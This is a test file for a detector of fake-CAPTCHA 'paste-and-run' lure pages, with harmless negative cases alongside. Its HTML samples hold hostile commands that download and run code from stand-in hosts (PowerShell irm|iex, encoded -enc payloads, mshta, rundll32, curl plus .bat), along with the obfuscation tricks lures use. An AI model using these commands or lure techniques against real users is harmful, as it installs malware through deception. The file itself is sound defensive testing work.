import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cpuGrowth } from '../../test-support/growth.js';
import { clipboardCommand, commandLineIn, pageWords } from './clipboard.js';
import { analyzeHtml } from './index.js';

const LIMITS = { maxPayloadBytes: 1 << 20 };
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const ENC = Buffer.from('iex (iwr "https://verify-cdn.top/c.ps1").Content', 'utf16le').toString('base64');
const page = (body: string): string => `<!DOCTYPE html><html><head><title>Page</title></head><body>${body}</body></html>`;
const CMD = 'powershell -w hidden -c "irm https://fix-cdn.top/v | iex"';
const codes = (t: string): string => [...t].map((c) => c.charCodeAt(0)).join(',');
/** The codes of `t` XORed with `key` (a number, or a string's codes in turn), as a list (session 23). */
const xored = (t: string, key: number | string): number[] => [...t].map((c, i) => c.charCodeAt(0) ^ (typeof key === 'number' ? key : key.charCodeAt(i % key.length)));
/** `t` XORed with `key`, written as a JavaScript string literal of \u escapes. */
const xoredLiteral = (t: string, key: number): string => `"${xored(t, key).map((c) => `\\u${c.toString(16).padStart(4, '0')}`).join('')}"`;
const STEPS_EN = '<p>To verify you are human: 1. Press <kbd>Windows</kbd> + <kbd>R</kbd> 2. Press <kbd>Ctrl</kbd> + <kbd>V</kbd> 3. Press Enter</p>';

/**
 * The paste-and-run lure as a page (session 18): the command the page copies (clipboardCommand, the strong sign) and the
 * words that say where to paste it (pasteAndRun, the weaker one); and pages that copy or say something else.
 */
const rows: [name: string, html: string, copies: boolean, instructs: boolean][] = [
  ['writeText of a PowerShell -enc line', page(`${STEPS_EN}<script>navigator.clipboard.writeText("powershell -w hidden -enc ${ENC}")</script>`), true, true],
  ['execCommand copy of a hidden textarea holding mshta https://…', page(`<textarea id="t" style="display:none">mshta https://cdn-verify.top/x.hta</textarea><script>var t=document.getElementById('t');t.select();document.execCommand('copy');</script>`), true, false],
  ['a hidden input\'s value (entities) copied by execCommand', page(`<input type="hidden" id="i" value="cmd /c curl -s https://x.top/a.bat -o %TEMP%\\a.bat &amp;&amp; %TEMP%\\a.bat"><script>document.getElementById("i").select();document.execCommand("copy")</script>`), true, false],
  ['a command assembled from atob', page(`<script>const c = atob("${b64('powershell -NoP -c "irm https://verify.top/v | iex"')}"); navigator.clipboard.writeText(c);</script>`), true, false],
  ['the whole command line base64 in a variable, no atob named', page(`<script>var k = '${b64('mshta https://verify.top/c')}'; navigator.clipboard.writeText(window['at' + 'ob'](k));</script>`), true, false],
  ['pieces joined with + and an array join', page(`<script>var p = ['pow', 'ershell -c "iwr https://v.top/s.ps1', ' | iex"'].join(''); navigator.clipboard.writeText('' + p);</script>`), true, false],
  ['clipboardData.setData of a curl | iex line', page(`<script>document.addEventListener('copy', function(e){ e.clipboardData.setData('text/plain', "curl.exe -s https://v.top/p | iex"); e.preventDefault(); });</script>`), true, false],
  ['rundll32 of a WebDAV share', page(`<script>navigator.clipboard.writeText("rundll32 \\\\\\\\share.v.top@SSL\\\\dav\\\\a.dll,Entry")</script>`), true, false],
  ['msiexec /i of a web address', page(`<script>navigator.clipboard.writeText('msiexec /q /i https://v.top/setup.msi')</script>`), true, false],
  ['the instructions in German, the command not readable', page('<p>Bestätigen Sie, dass Sie ein Mensch sind: Drücken Sie Windows-Taste + R, dann Strg + V und die Eingabetaste.</p><script>navigator.clipboard.writeText(x)</script>'), false, true],
  ['the instructions in French written by script (<kbd> in a literal)', page('<div id="m"></div><script>document.getElementById("m").innerHTML = "Pour vérifier que vous êtes humain : appuyez sur <kbd>touche Windows</kbd> + <kbd>R</kbd>, collez avec Ctrl + V puis Entrée.";</script>'), false, true],
  ['the instructions with character references (&#43;)', page('<p>I am not a robot &mdash; verification steps: press Win&#43;R, press Ctrl&#43;V, press Enter.</p>'), false, true],
  // Session 19: commands spelled in character codes, or built across statements.
  ['String.fromCharCode of the command\'s codes', page(`<script>var c = String.fromCharCode(${codes(CMD)}); navigator.clipboard.writeText(c);</script>`), true, false],
  ['String.fromCharCode of hexadecimal codes', page(`<script>navigator.clipboard.writeText(String.fromCharCode(${[...CMD].map((c) => `0x${c.charCodeAt(0).toString(16)}`).join(', ')}))</script>`), true, false],
  ['an array of codes mapped through String.fromCharCode', page(`<script>const k = [${codes(CMD)}]; navigator.clipboard.writeText(k.map((c) => String.fromCharCode(c)).join(''));</script>`), true, false],
  ['pieces added to a variable over several statements (+=, c = c + …)', page(`<script>var c = "pow";\nc += "ershell -w h";\nc += 'idden -c iwr v.top/s';\nc += " -useb | i";\nc = c + "ex";\nnavigator.clipboard.writeText(c);</script>`), true, false],
  ['variables joined in the clipboard write (a + b + d)', page(`<script>const a = "powersh";\nconst b = 'ell -c iwr v.top/s -useb | i';\nconst d = 'ex';\nnavigator.clipboard.writeText(a + b + d);</script>`), true, false],
  ['a variable between two literals (\'…\' + host + \'…\'), copied from a hidden textarea', page(`<textarea id="t"></textarea><script>const t = "ta";\nconst c = "msh" + t + " https://v.top/a.hta";\nvar t = document.getElementById('t'); t.value = c; t.select(); document.execCommand('copy');</script>`), true, false],
  ['the "fix the error" steps: Copy fix, Win+X, PowerShell (the command not readable)', page('<h2>Error 0x80070643</h2><button onclick="f()">Copy fix</button><p>How to fix: the fix has been copied. Press Win + X, open Windows PowerShell (Admin), paste with Ctrl + V and press Enter.</p><script>navigator.clipboard.writeText(x)</script>'), false, true],
  // Session 23: the command encrypted with XOR and decoded by the page as it copies.
  ['codes XORed with a number, decoded through fromCharCode(c ^ 23)', page(`<script>var d = [${xored(CMD, 23).join(',')}]; var c = d.map(function (x) { return String.fromCharCode(x ^ 23); }).join(''); navigator.clipboard.writeText(c);</script>`), true, false],
  ['a string XORed with 0x5a, decoded through charCodeAt(i) ^ 0x5a', page(`<script>var e = ${xoredLiteral(CMD, 0x5a)}; var r = ''; for (var i = 0; i < e.length; i++) r += String.fromCharCode(e.charCodeAt(i) ^ 0x5a); navigator.clipboard.writeText(r);</script>`), true, false],
  ['codes XORed with a key string, k.charCodeAt(i % k.length)', page(`<script>var k = "v3rIfy"; var d = [${xored(CMD, 'v3rIfy').join(', ')}]; var r = ''; for (var i = 0; i < d.length; i++) r += String.fromCharCode(d[i] ^ k.charCodeAt(i % k.length)); navigator.clipboard.writeText(r);</script>${STEPS_EN}`), true, true],
  // Must not.
  ['a coupon code XORed with a number and copied', page(`<script>var d = [${xored('SAVE20-NW-2291', 23).join(',')}]; navigator.clipboard.writeText(d.map(function (x) { return String.fromCharCode(x ^ 23); }).join(''));</script>`), false, false],
  ['a checksum routine (charCodeAt, ^ 0xedb8) beside a copied order number', page(`<script>function h(s) { var c = 0; for (var i = 0; i < s.length; i++) c = (c >>> 1) ^ (s.charCodeAt(i) ^ 0xedb8); return c; } navigator.clipboard.writeText('Order 2291 / ' + h('2291'));</script>`), false, false],
  ['an address spelled in character codes and copied', page(`<script>var e = String.fromCharCode(${codes('info@northwind-supplies.com')}); navigator.clipboard.writeText(e);</script>`), false, false],
  ['a command sample built over statements: npm install', page(`<script>let c = "npm ";\nc += 'install left-pad';\nnavigator.clipboard.writeText(c);</script>`), false, false],
  ['numbers on a page that calls fromCharCode: a chart\'s data', page('<script>var d = [12, 40, 33, 58, 61, 70, 72, 90, 101, 99]; var s = String.fromCharCode(65); navigator.clipboard.writeText(d.join(","));</script>'), false, false],
  ['a documentation page: copy buttons on code samples (no download run)', page('<pre id="a">pip install requests</pre><pre id="b">git clone https://github.com/psf/requests.git</pre><pre>powershell -ExecutionPolicy Bypass -File .\\build.ps1</pre><script>function c(id){navigator.clipboard.writeText(document.getElementById(id).innerText)}</script>'), false, false],
  ['quoted attributes are not one string: a "powershell " title beside a link, and a copy button', page(`<a title="powershell " href="https://learn.example.org/ps">PowerShell tips</a><button onclick="navigator.clipboard.writeText('Get-Date')">Copy</button>`), false, false],
  ['a literal sample copied: npm install', page(`<script>navigator.clipboard.writeText('npm install --save left-pad')</script>`), false, false],
  ['a coupon page that copies its code', page(`<h1>SAVE20</h1><p>Paste it at checkout with Ctrl+V.</p><button onclick="navigator.clipboard.writeText('SAVE20-NW-2291')">Copy</button>`), false, false],
  ['a security article describing the trick with "never"', page('<p>Fake CAPTCHA pages ask you to verify you are human: press Windows key + R, paste with Ctrl + V and press Enter. Never do this: the clipboard holds <code>powershell -enc ' + ENC + '</code>.</p>'), false, false],
  ['a command line in the text but no clipboard script', page(`<pre>powershell -c "irm https://get.example.org/install.ps1 | iex"</pre><script>console.log(1)</script>`), false, false],
  ['an IT how-to: Win+R and paste a path, no verification', page('<p>Press Win+R, paste \\\\fileserver\\team with Ctrl+V and press Enter.</p>'), false, false],
];

for (const [name, html, copies, instructs] of rows) {
  test(`paste-and-run page: ${name}`, () => {
    const facts = analyzeHtml(html, LIMITS);
    assert.equal(facts.clipboardCommand !== undefined, copies, `clipboardCommand: ${facts.clipboardCommand}`);
    assert.equal(facts.pasteAndRun !== undefined, instructs, `pasteAndRun: ${facts.pasteAndRun}`);
  });
}

test('paste-and-run page: the command is what is reported, the PowerShell -enc line read', () => {
  const command = clipboardCommand(page(`<script>navigator.clipboard.writeText("powershell -w hidden -enc ${ENC}")</script>`));
  assert.match(command ?? '', /^powershell -w hidden -enc /);
});

test('paste-and-run page: a page written from an encoded string is read too', () => {
  const inner = `${STEPS_EN}<script>navigator.clipboard.writeText("mshta https://v.top/a")</script>`;
  const facts = analyzeHtml(`<html><body><script>document.write(atob("${b64(page(inner))}"))</script></body></html>`, LIMITS);
  assert.match(facts.clipboardCommand ?? '', /^mshta https:\/\/v\.top\/a/);
  assert.ok(facts.pasteAndRun);
});

test('paste-and-run page: linear in the page (quotes, tags, references, launchers repeated)', () => {
  const units = [
    `"a" + 'b' + `, `'`, `"`, '`', '<textarea>', '<input value="', '<a ', '&#43;', '+ <b>', 'powershell ', 'cmd /c ', 'curl x ',
    `navigator.clipboard.writeText('powershell x') `, 'execCommand("copy") mshta ', 'QUJD', 'win + r ctrl + v ',
    // Session 19: assignments, code lists, clipboard writes of variables, the other launchers.
    `c += 'a'; `, `c = c + "a"; `, 'a = b + ', 'x = ', '1,2,3,', '0x41, ', 'fromCharCode(', 'writeText(a + b + ', 'writeText(a) ', 'powershell paste fix copied ',
    // Session 23: XOR keys and their inputs.
    '.charCodeAt(i) ^ 7 ', `k.charCodeAt(i % k.length) k = 'abcdefgh'; `, `^ 0x5a 'abcdefghij' `, '1,2,3,4,5,6,7,8,9 ^ 3 ',
  ];
  for (const unit of units) {
    const make = (n: number): string => `<script>navigator.clipboard.writeText(x)</script>${unit.repeat(Math.ceil(n / unit.length))}`;
    const ratio = cpuGrowth(make, (html) => { analyzeHtml(html, LIMITS); clipboardCommand(html); pageWords(html); }, 3_000);
    assert.ok(ratio < 40, `${JSON.stringify(unit)}: 10× the page took ${ratio.toFixed(1)}× the CPU`);
  }
});

test('commandLineIn: the launcher words asked of the text as written find what they find in its lower case', () => {
  // The gate before the lower-case copy is exact only if no other character lower-cases to ASCII (session 40).
  const toAscii: number[] = [];
  for (let cp = 0x80; cp <= 0x10ffff; cp++) {
    if (cp >= 0xd800 && cp <= 0xdfff) continue;
    if (/[\x00-\x7f]/.test(String.fromCodePoint(cp).toLowerCase())) toAscii.push(cp);
  }
  assert.deepEqual(toAscii, [0x130, 0x212a]);
  const rows: Array<[string, string | undefined]> = [
    ['Press Win+R and paste: POWERSHELL -c IWR https://x.example/a | IEX', 'powershell -c iwr https://x.example/a | iex'],
    // The Kelvin sign lower-cases to k: only the copy reads "invoke-webrequest" here.
    ['Paste: Invo\u212ae-WebRequest https://x.example/a | iex', 'invoke-webrequest https://x.example/a | iex'],
    ['Please confirm your order; curly quotes are fine.', undefined],
    ['Nothing to run here.', undefined],
  ];
  for (const [text, line] of rows) assert.equal(commandLineIn(text)?.line, line, text);
});
